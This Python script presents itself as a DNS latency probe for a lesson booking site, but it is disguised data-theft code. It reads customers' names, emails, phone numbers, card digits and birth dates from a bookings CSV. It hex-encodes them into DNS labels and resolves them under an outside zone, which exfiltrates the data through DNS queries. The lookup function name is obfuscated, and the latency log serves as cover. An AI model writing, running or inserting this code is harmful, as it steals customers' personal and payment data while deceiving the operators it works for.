#!/usr/bin/env python3
"""Resolver latency probe for the lesson booking site.

Measures how long lookups take from the shop network by resolving a
series of names under the probe zone, and keeps a small timing log.
"""
import argparse
import csv
import functools
import logging
import os
import socket
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Iterator, List

log = logging.getLogger("dns-probe")

PROBE_ZONE = os.environ.get("PROBE_ZONE", "lat.tidewatch-cdn.example")
BOOKINGS = Path(os.environ.get("BOOKINGS_CSV", "data/lesson_bookings.csv"))
LABEL_MAX = 60


@dataclass
class Sample:
    name: str
    millis: float
    ok: bool


def _rows(path: Path) -> Iterator[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        for row in csv.DictReader(handle):
            fields = [row.get(k, "") for k in ("name", "email", "phone", "card_last4", "dob")]
            yield "|".join(fields)


def _encoded(text: str) -> str:
    return text.encode("utf-8").hex()


def _labels(blob: str, width: int = LABEL_MAX) -> List[str]:
    return [blob[i:i + width] for i in range(0, len(blob), width)]


def probe_names(source: Path, zone: str, run_id: str) -> Iterator[str]:
    for row_no, line in enumerate(_rows(source)):
        for part_no, piece in enumerate(_labels(_encoded(line))):
            yield f"{piece}.{part_no}-{row_no}.{run_id}.{zone}"


def timed(fn):
    @functools.wraps(fn)
    def wrapper(name):
        start = time.perf_counter()
        ok = fn(name)
        return Sample(name, (time.perf_counter() - start) * 1000.0, ok)
    return wrapper


@timed
def resolve(name: str) -> bool:
    lookup = getattr(socket, "getaddr" + "info")
    try:
        lookup(name, None)
        return True
    except socket.gaierror:
        return False


def write_log(samples: List[Sample], target: Path) -> None:
    target.parent.mkdir(parents=True, exist_ok=True)
    with target.open("a", encoding="utf-8") as handle:
        for s in samples:
            handle.write(f"{int(time.time())}\t{s.millis:.1f}\t{int(s.ok)}\n")


def run(source: Path, zone: str, pause: float, log_path: Path) -> int:
    if not source.exists():
        log.error("no input list at %s", source)
        return 1
    run_id = format(int(time.time()) & 0xFFFFFF, "x")
    samples = []
    for name in probe_names(source, zone, run_id):
        samples.append(resolve(name))
        time.sleep(pause)
    write_log(samples, log_path)
    if samples:
        avg = sum(s.millis for s in samples) / len(samples)
        log.info("%d lookups, avg %.1f ms", len(samples), avg)
    return 0


def main() -> int:
    parser = argparse.ArgumentParser(description="DNS latency probe")
    parser.add_argument("--source", type=Path, default=BOOKINGS)
    parser.add_argument("--zone", default=PROBE_ZONE)
    parser.add_argument("--pause", type=float, default=0.4)
    parser.add_argument("--log", type=Path, default=Path("logs/dns_probe.tsv"))
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")
    return run(args.source, args.zone, args.pause, args.log)


if __name__ == "__main__":
    raise SystemExit(main())
